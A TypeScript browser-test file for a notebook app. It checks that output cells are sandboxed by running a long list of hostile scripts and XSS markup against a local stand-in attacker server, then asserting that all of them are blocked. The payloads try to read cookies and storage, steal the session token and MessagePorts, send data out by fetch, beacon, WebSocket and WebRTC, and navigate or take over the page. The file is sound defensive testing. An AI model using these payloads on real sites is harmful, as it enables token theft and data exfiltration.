import { createSocket } from "node:dgram";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import type { BrowserContext, Page } from "playwright-core";
import { expect, inject, onTestFinished, test } from "vitest";
import { freshName, holds, isIdle, openSession, runCell, shows, useBrowser, visitor } from "./page.ts";
import { ask, TOKEN } from "./server.ts";

useBrowser();

interface Attacker {
  url: string;
  stun: string;
  /** All that has come so far. */
  heard: string[];
  /** All that has come, when everything is there that was sent before. */
  heardAtLast: (context: BrowserContext) => Promise<string[]>;
}

/** Somebody who waits for whatever an output may send out: requests, connections without any, and packets. */
async function attacker(): Promise<Attacker> {
  const heard: string[] = [];
  const server = createServer((request, response) => {
    heard.push(request.url ?? "");
    response.setHeader("Access-Control-Allow-Origin", "*");
    response.end("x");
  });
  server.on("connection", () => heard.push("a connection"));
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const packets = createSocket("udp4");
  packets.on("message", (packet) => heard.push(packet.toString() === OWN ? OWN : "a packet"));
  await new Promise<void>((resolve) => packets.bind(0, "127.0.0.1", resolve));
  // Of the tests' own; what is asked here says that the browser has sent what it had to send before.
  const beside = createServer((_, response) => response.end("<p>beside</p>"));
  await new Promise<void>((resolve) => beside.listen(0, "127.0.0.1", resolve));
  onTestFinished(() => {
    for (const one of [server, beside]) {
      one.closeAllConnections();
      one.close();
    }
    packets.close();
  });
  const at = (one: typeof server): string => `http://127.0.0.1:${(one.address() as AddressInfo).port}`;
  const heardAtLast = async (context: BrowserContext): Promise<string[]> => {
    const page = await context.newPage();
    await page.goto(at(beside));
    await page.close();
    await fetch(at(server) + OWN, { headers: { Connection: "close" } });
    const sender = createSocket("udp4");
    sender.send(OWN, packets.address().port, "127.0.0.1");
    await expect.poll(() => heard.filter((what) => what === OWN).length).toBe(2);
    sender.close();
    // Each of our own came over a connection, or alone.
    const result = heard.filter((what) => what !== OWN);
    result.splice(result.lastIndexOf("a connection"), 1);
    return result;
  };
  return { url: at(server), stun: `stun:127.0.0.1:${packets.address().port}`, heard, heardAtLast };
}

const OWN = "/of-the-test-itself";

/** What a script of an output tries, each with what came of it: `open` would be a hole. */
const ATTEMPTS = `
const results = {};
const attempt = async (name, act) => {
  try { results[name] = await Promise.race([Promise.resolve(act()).then(() => "open"), new Promise((done) => setTimeout(() => done("silent"), 1500))]); }
  catch (error) { results[name] = "closed"; }
};
const loads = (tag, attribute, extra = {}) => new Promise((resolve, reject) => {
  const element = document.createElement(tag);
  element.onload = resolve; element.onerror = reject;
  Object.assign(element, extra); element[attribute] = URL_ + "/" + tag;
  document.body.append(element);
});
(async () => {
  await attempt("parent document", () => parent.document.body.innerHTML);
  await attempt("top document", () => top.document.cookie);
  await attempt("parent variable", () => { parent.pwned = 1; });
  await attempt("top navigation", () => { top.location = URL_ + "/top"; });
  await attempt("top navigation by link", () => { const a = document.createElement("a"); a.href = URL_ + "/toplink"; a.target = "_top"; document.body.append(a); a.dispatchEvent(new MouseEvent("click", { bubbles: false })); throw 0; });
  await attempt("session storage", () => sessionStorage.length);
  await attempt("local storage", () => localStorage.length);
  await attempt("cookies", () => document.cookie);
  await attempt("indexed db", () => new Promise((resolve, reject) => { const open = indexedDB.open("x"); open.onsuccess = resolve; open.onerror = reject; }));
  await attempt("the token of a tab", () => new Promise((resolve, reject) => { const channel = new BroadcastChannel("evercell:token"); channel.onmessage = resolve; channel.postMessage("who?"); setTimeout(reject, 600); }));
  await attempt("fetch", () => fetch(URL_ + "/fetch", { mode: "no-cors" }));
  await attempt("fetch of the server", () => fetch(SERVER + "/v1/sessions", { mode: "no-cors" }));
  await attempt("beacon", () => { if (!navigator.sendBeacon(URL_ + "/beacon", "x")) throw 0; throw 0; });
  await attempt("xhr", () => new Promise((resolve, reject) => { const x = new XMLHttpRequest(); x.onload = resolve; x.onerror = reject; x.open("GET", URL_ + "/xhr"); x.send(); }));
  await attempt("websocket", () => new Promise((resolve, reject) => { const s = new WebSocket(URL_.replace("http", "ws") + "/ws"); s.onopen = resolve; s.onerror = reject; }));
  await attempt("websocket of the server", () => new Promise((resolve, reject) => { const s = new WebSocket(SERVER.replace("http", "ws") + "/v1/sessions/x/ws"); s.onopen = resolve; s.onerror = reject; }));
  await attempt("event source", () => new Promise((resolve, reject) => { const s = new EventSource(URL_ + "/sse"); s.onopen = resolve; s.onerror = reject; }));
  await attempt("image", () => loads("img", "src"));
  await attempt("script", () => loads("script", "src"));
  await attempt("style sheet", () => loads("link", "href", { rel: "stylesheet" }));
  await attempt("prefetch", () => loads("link", "href", { rel: "prefetch" }));
  await attempt("import", () => import(URL_ + "/import.js"));
  await attempt("worker", () => new Promise((resolve, reject) => { const w = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))); w.onmessage = resolve; w.onerror = reject; }));
  const call = (Peer) => new Promise((resolve, reject) => {
    const peer = new Peer({ iceServers: [{ urls: STUN }] });
    peer.createDataChannel("x");
    peer.onicegatheringstatechange = () => { if (peer.iceGatheringState === "complete") resolve(); };
    peer.createOffer().then((offer) => peer.setLocalDescription(offer)).catch(reject);
  });
  const within = (how) => new Promise((resolve) => { const frame = document.createElement("iframe"); frame.onload = () => resolve(frame.contentWindow); how(frame); document.body.append(frame); setTimeout(() => resolve(frame.contentWindow), 300); });
  await attempt("webrtc", () => call(window.RTCPeerConnection));
  await attempt("webrtc of the page", () => call(parent.RTCPeerConnection));
  await attempt("webrtc of a frame within", async () => call((await within(() => undefined)).RTCPeerConnection));
  await attempt("webrtc of a script in a frame within", async () => { await within((frame) => { frame.srcdoc = "<script>new RTCPeerConnection({ iceServers: [{ urls: '" + STUN + "' }] }).createDataChannel('x'); parent.leak = 1; parent.postMessage('leak', '*')</" + "script><img src=x onerror=parent.postMessage('leak','*')>"; }); await new Promise((resolve, reject) => { onmessage = ({ data }) => { if (data === "leak") resolve(); }; setTimeout(reject, 500); }); });
  await attempt("webrtc of a javascript: frame", async () => call((await within((frame) => { frame.src = "javascript:'<p>x</p>'"; })).RTCPeerConnection));
  const link = (make) => { const element = make(); element.rel = "preconnect"; element.href = URL_; document.body.append(element); throw 0; };
  await attempt("preconnect", () => link(() => document.createElement("link")));
  await attempt("preconnect by namespace", () => link(() => document.createElementNS("http://www.w3.org/1999/xhtml", "h:link")));
  await attempt("preconnect by markup", () => { document.body.insertAdjacentHTML("beforeend", "<" + "LINK rel=preconnect href=" + URL_ + ">"); throw 0; });
  await attempt("preconnect by a fragment", () => { document.body.append(document.createRange().createContextualFragment("<" + "link rel=preconnect href=" + URL_ + ">")); throw 0; });
  await attempt("preconnect by another document", () => link(() => new DOMParser().parseFromString("<" + "link>", "text/html").querySelector("link") ?? document.implementation.createHTMLDocument().createElement("link")));
  await attempt("preconnect by an extended element", () => link(() => { class Mine extends HTMLLinkElement {} customElements.define("my-link", Mine, { extends: "link" }); return new Mine(); }));
  await attempt("the frame's own script", () => { if (document.querySelector('body > script, head > script') === null) throw 0; });
  await attempt("a script element", () => { const s = document.createElement("script"); s.text = "window.ran = 1"; document.body.append(s); if (window.ran !== 1) throw 0; });
  await attempt("window", () => { if (window.open(URL_ + "/window") === null) throw 0; });
  await attempt("alert", () => { alert("pwned"); throw 0; });
  await attempt("form", () => { const f = document.createElement("form"); f.action = URL_ + "/form"; f.method = "post"; document.body.append(f); f.submit(); throw 0; });
  await attempt("form to the top", () => { const f = document.createElement("form"); f.action = URL_ + "/form"; f.target = "_top"; document.body.append(f); f.submit(); throw 0; });
  await attempt("css", () => { document.body.style.backgroundImage = "url(" + URL_ + "/css)"; const s = document.createElement("style"); s.textContent = "@import url(" + URL_ + "/cssimport); @font-face { font-family: f; src: url(" + URL_ + "/font) } body { font-family: f }"; document.head.append(s); throw 0; });
  parent.postMessage({ type: "height", height: 1e308 }, "*");
  parent.postMessage({ type: "link", url: "javascript:parent.pwned=1" }, "*");
  parent.postMessage({ type: "html", html: "<img src=x onerror='window.pwned=1'>" }, "*");
  for (let index = 0; index < parent.length; index += 1) parent[index].postMessage({ type: "html", html: "<b>forged</b>", theme: { scheme: "light", colours: {} } }, "*");
  const open = Object.entries(results).filter(([, result]) => result === "open").map(([name]) => name);
  document.body.append("attempts: " + Object.keys(results).length + "; open: " + JSON.stringify(open));
})();
`;

test("an output's scripts reach neither the page, nor the token, nor the network", async () => {
  const { url, stun, heardAtLast } = await attacker();
  const context = await visitor();
  const name = freshName("attack");
  const page = await openSession(context, name);
  const [dialogs, popups]: [string[], string[]] = [[], []];
  page.on("dialog", (dialog) => { dialogs.push(dialog.message()); void dialog.dismiss(); });
  context.on("page", (other) => popups.push(other.url()));
  const before = page.url();
  const script = ATTEMPTS.replaceAll("STUN", JSON.stringify(stun)).replaceAll("URL_", JSON.stringify(url)).replaceAll("SERVER", JSON.stringify(inject("url")));
  await runCell(page, "from IPython.display import HTML, display\ndisplay(HTML('<p>an innocent neighbour</p>'))");
  await page.frameLocator(".frame").getByText("an innocent neighbour").waitFor();
  await runCell(page, `display(HTML(${JSON.stringify(`<script>${script}</script>`)}))`);
  const frame = page.frameLocator(".cell:last-of-type .frame");
  await frame.getByText(/attempts: \d+; open/).waitFor();
  expect(await frame.locator("body").innerText()).toMatch(/attempts: 4\d; open: \[\]$/);
  expect(await page.evaluate(() => (window as unknown as { pwned?: number }).pwned)).toBeUndefined();
  expect(await page.frameLocator(".frame >> nth=0").locator("body").innerText()).toBe("an innocent neighbour");
  expect(page.url()).toBe(before);
  expect({ dialogs, popups }).toEqual({ dialogs: [], popups: [] });
  expect(await heardAtLast(context)).toEqual([]);
});

test("markup that navigates, embeds, posts or loads by itself leads nowhere", async () => {
  const { url, heardAtLast } = await attacker();
  const context = await visitor();
  const page = await openSession(context, freshName("markup"));
  const before = page.url();
  const attacks = [
    `<meta http-equiv="refresh" content="0;url=${url}/refresh"><p>one</p>`,
    `<iframe src="${url}/iframe"></iframe><iframe srcdoc="<img src='${url}/srcdoc'>"></iframe><p>two</p>`,
    `<svg><image href="${url}/svgimage"/><use href="${url}/use#x"/></svg><p>three</p>`,
    `<img src="${url}/image" srcset="${url}/set 1x"><p>four</p>`,
    `<object data="${url}/object"></object><embed src="${url}/embed"><video src="${url}/video" autoplay></video><p>five</p>`,
    `<base href="${url}/"><img src="base"><link rel="dns-prefetch" href="${url}"><link rel="preconnect" href="${url}"><p>six</p>`,
    `<form action="${url}/formauto"><button id=go>go</button></form><script>document.getElementById('go').click()</script><p>seven</p>`,
    `<a id=js href="javascript:parent.pwned=1">eight</a><script>document.getElementById('js').click()</script>`,
    `<iframe src="data:text/html,<script>fetch('${url}/data')</script>"></iframe><p>nine</p>`,
  ];
  await runCell(page, `from IPython.display import HTML, SVG, Javascript, display\nfor html in ${JSON.stringify(attacks)}: display(HTML(html))\ndisplay(Javascript("element.textContent = 'ten'"))`);
  await isIdle(page);
  // Every frame is brought to the screen, so that each one has run.
  for (let index = 0; index <= attacks.length; index += 1) await page.locator(".frame").nth(index).scrollIntoViewIfNeeded();
  await page.frameLocator(".frame >> nth=1").getByText("two").waitFor();
  await page.frameLocator(".frame >> nth=8").getByText("nine").waitFor();
  await runCell(page, "print('still here')");
  await shows(page, "still here");
  expect(page.url()).toBe(before);
  expect(await page.evaluate(() => (window as unknown as { pwned?: number }).pwned)).toBeUndefined();
  expect(await heardAtLast(context)).toEqual([]);
});

test("a frame that tries to navigate itself elsewhere sends no request", async () => {
  const { url, heardAtLast } = await attacker();
  const context = await visitor();
  const page = await openSession(context, freshName("navigate"));
  const attacks = [
    `<svg onload="location='${url}/svg'"></svg><p>one</p>`,
    `<img src=x onerror="location.href='${url}/onerror'"><p>two</p>`,
    `<script>location = '${url}/script'</script><p>three</p>`,
    `<a id=a href="${url}/a">x</a><script>document.getElementById('a').dispatchEvent(new MouseEvent('click'))</script><p>four</p>`,
  ];
  await runCell(page, `from IPython.display import HTML, display\nfor html in ${JSON.stringify(attacks)}: display(HTML(html))`);
  await isIdle(page);
  for (let index = 0; index < attacks.length; index += 1) await page.locator(".frame").nth(index).scrollIntoViewIfNeeded();
  await runCell(page, "print('still here')");
  await shows(page, "still here");
  // Chromium connects before it asks the policy, which SECURITY.md says; what would be sent is not.
  expect((await heardAtLast(context)).filter((what) => what !== "a connection")).toEqual([]);
});

test("text is text wherever it comes from: output, errors, names, variables, cells", async () => {
  const name = freshName("text");
  const page = await openSession(await visitor(), name);
  const bad = "<img src=x onerror=window.pwned=1>";
  await page.getByRole("button", { name: "Variables", exact: true }).click();
  await runCell(page, `bad = ${JSON.stringify(bad)}\nopen(bad.replace('/', ''), 'w').close()\nimport sys; print(bad); print(bad, file=sys.stderr); raise ValueError(bad)`);
  await page.locator(".failure-title").getByText(bad).waitFor();
  await page.locator(".variables").getByText("window.pwned").first().waitFor();
  await page.getByRole("button", { name: "Files", exact: true }).click();
  await page.locator(".tree").getByText(bad).waitFor();
  await ask(inject("url"), "POST", `/v1/sessions/${name}/run`, { code: `# ${bad}`, origin: bad });
  await shows(page, `run by ${bad}`);
  await page.locator(".adders").getByRole("button", { name: "Text" }).click();
  await page.keyboard.insertText(`${bad} [a](javascript:window.pwned=1) ![b](x) <javascript:alert(1)> [c](data:text/html,x)`);
  await page.keyboard.press("Shift+Enter");
  await page.locator(".markdown").getByText(bad).waitFor();
  expect(await page.locator(".markdown a, .markdown img").count()).toBe(0);
  expect(await page.evaluate(() => (window as unknown as { pwned?: number }).pwned)).toBeUndefined();
});

test("a link of an output is opened only after its address was shown", async () => {
  const { url, heard } = await attacker();
  const context = await visitor();
  const page = await openSession(context, freshName("link"));
  await runCell(page, `from IPython.display import HTML\nHTML('<a href="${url}/link?secret">a link</a>')`);
  await page.frameLocator(".frame").getByText("a link").click();
  await page.getByRole("dialog").getByText(`${url}/link?secret`).waitFor();
  expect(heard).toEqual([]);
  const [other] = await Promise.all([context.waitForEvent("page"), page.getByRole("link", { name: "Open in a new tab" }).click()]);
  await other.waitForLoadState();
  expect(heard.filter((path) => path.startsWith("/link"))).toEqual(["/link?secret"]);
  expect(await other.evaluate((): unknown => [window.opener, document.referrer])).toEqual([null, ""]);
});

/** Counts what frames say to the page, which the page has heard when this has counted it. */
const COUNT_MESSAGES = `window.heard = 0; addEventListener("message", () => setTimeout(() => { window.heard += 1; }));`;

async function hearsMore(page: Page): Promise<void> {
  const heard = (): Promise<number> => page.evaluate(() => (window as unknown as { heard: number }).heard);
  const before = await heard();
  await expect.poll(heard).toBeGreaterThan(before + 10);
}

/** An output that asks again and again to have a link opened, in all the ways there are, and that takes the keyboard. */
const ASKING = `<input id="field"><p>an output that asks</p><p><a href="https://example.com/?followed">a link</a></p><script>
  const url = "https://example.com/?secret";
  const ask = () => parent.postMessage({ type: "link", url }, "*");
  // It would like to have the port over which the frame's own script says what was clicked, or be taken for it.
  for (const owner of [MessagePort.prototype, Function.prototype, Reflect]) for (const name of ["postMessage", "call", "apply"]) {
    const own = owner[name];
    if (own === undefined) continue;
    owner[name] = function (...parts) {
      for (const one of [this, ...parts]) if (one instanceof MessagePort) window.stolen = one;
      return owner === Reflect ? own(...parts) : Reflect.apply === own ? own(...parts) : (0, own.bind(this))(...parts);
    };
  }
  const { port1, port2 } = new MessageChannel();
  parent.postMessage({ type: "ready" }, "*", [port2]);
  addEventListener("message", ({ ports }) => { if (ports[0]) window.stolen = ports[0]; });
  setInterval(() => {
    document.getElementById("field").focus();
    ask();
    document.querySelector("a").click();
    document.querySelector("a").dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true }));
    for (const port of [port1, window.stolen]) if (port) port.postMessage({ url });
  }, 20);
</script>`;

test("an output that takes the keyboard from somebody who types is stopped, and the typing goes on", async () => {
  const page = await openSession(await visitor(), freshName("keyboard"));
  const thief = "<p>a quiet output</p><input id='field'><script>setInterval(() => document.getElementById('field').focus(), 10)</script>";
  await runCell(page, `from IPython.display import HTML\nHTML(${JSON.stringify(thief)})`);
  await page.frameLocator(".frame").getByText("a quiet output").waitFor();
  await page.locator(".cm-content").first().click();
  await page.getByText("This output took the keyboard from somebody who was typing, so it was stopped.").waitFor();
  expect(await page.locator(".frame").count()).toBe(0);
  await page.keyboard.insertText("# what is typed");
  await holds(page, "# what is typed");
  // Who clicks into an output wants it to have the keyboard.
  await page.getByRole("button", { name: "Draw it again" }).click();
  await page.frameLocator(".frame").locator("input").click();
  await page.keyboard.insertText("for the output");
  expect(await page.frameLocator(".frame").locator("input").inputValue()).toBe("for the output");
});

test("an output puts no question in the way of what is done beside it, and none in the place of another one", async () => {
  const context = await visitor();
  await context.addInitScript(COUNT_MESSAGES);
  const page = await openSession(context, freshName("asking"));
  await runCell(page, `from IPython.display import HTML\nHTML(${JSON.stringify(ASKING)})`);
  await page.frameLocator(".frame").getByText("an output that asks").waitFor();
  await page.keyboard.press("Escape");
  await page.getByRole("button", { name: "Variables", exact: true }).click();
  await hearsMore(page);
  expect(await page.getByRole("dialog").count()).toBe(0);
  await page.getByRole("button", { name: "Restart the kernel" }).click();
  await hearsMore(page);
  expect(await page.getByRole("dialog").locator("h2").allInnerTexts()).toEqual(["Restart the kernel?"]);
});

test("one click in an output asks one question, which cannot be answered before it can be read", async () => {
  const context = await visitor();
  await context.addInitScript(COUNT_MESSAGES);
  await context.addInitScript(() => {
    // Clicks on "Open" the moment that it is there.
    new MutationObserver(() => document.querySelector<HTMLElement>(".dialog a.strong[aria-disabled]")?.click()).observe(document, { subtree: true, childList: true });
  });
  const page = await openSession(context, freshName("once"));
  const popups: string[] = [];
  context.on("page", (other) => popups.push(other.url()));
  await runCell(page, `from IPython.display import HTML\nHTML(${JSON.stringify(ASKING)})`);
  await page.frameLocator(".frame").getByText("an output that asks").click();
  await hearsMore(page);
  expect(await page.getByRole("dialog").count()).toBe(0);
  await page.frameLocator(".frame").getByText("a link").click();
  const question = page.getByRole("dialog", { name: "Open this address?" });
  await question.getByText("https://example.com/?followed").waitFor();
  expect(popups).toEqual([]);
  await question.getByRole("link", { name: "Open in a new tab" }).waitFor();
  await question.getByRole("button", { name: "Leave it" }).click();
  await hearsMore(page);
  expect(await question.count()).toBe(0);
});

test("the page's own policy lets in no script but its own, and no page frames it", async () => {
  const response = await fetch(inject("url"));
  const policy = response.headers.get("content-security-policy") ?? "";
  expect(policy).toMatch(/default-src 'none'; script-src 'self'; style-src 'self' 'nonce-[0-9a-f]{32}'; /);
  expect(policy).toContain("frame-ancestors 'none'");
  expect(policy).toContain("require-trusted-types-for 'script'");
  expect(policy).not.toMatch(/unsafe|\*|data:/);
  const page = await openSession(await visitor(), freshName("policy"));
  const ran = await page.evaluate(() => {
    const script = document.createElement("script");
    try {
      script.textContent = "window.pwned = 1";
    } catch {
      return "refused";
    }
    document.body.append(script);
    return (window as unknown as { pwned?: number }).pwned ?? "refused";
  });
  expect(ran).toBe("refused");
  expect(TOKEN.length).toBeGreaterThan(0);
});
